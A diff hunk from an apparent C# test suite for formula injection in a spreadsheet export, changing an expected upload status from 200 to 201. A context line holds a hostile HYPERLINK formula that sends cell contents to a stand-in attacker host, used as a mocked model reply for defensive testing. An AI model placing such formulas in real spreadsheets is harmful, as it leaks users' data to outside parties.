@@ -25,7 +25,7 @@ public sealed class ExportFormulaInjectionTests(AzuriteFixture azurite) : IDispo
         gemini.Reply(GeminiReply.Intent("High", 0.9, "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")"));
         await using var app = await TestApp.StartAsync(azurite, gemini.Settings(("Gemini:TimeoutSeconds", "30"), ("Gemini:TotalTimeoutSeconds", "60")));
         await app.CreateOfferIdAsync();
-        var upload = (await app.UploadAsync(HostileCsv())).AssertStatus(StatusCodes.Status200OK).Json();
+        var upload = (await app.UploadAsync(HostileCsv())).AssertStatus(StatusCodes.Status201Created).Json();
         Assert.Equal(Prefixes.Length * LeadColumns.Length, upload.GetProperty("inserted").GetInt32());
         await app.StartRunAsync();
         await app.ProcessQueuesAsync();
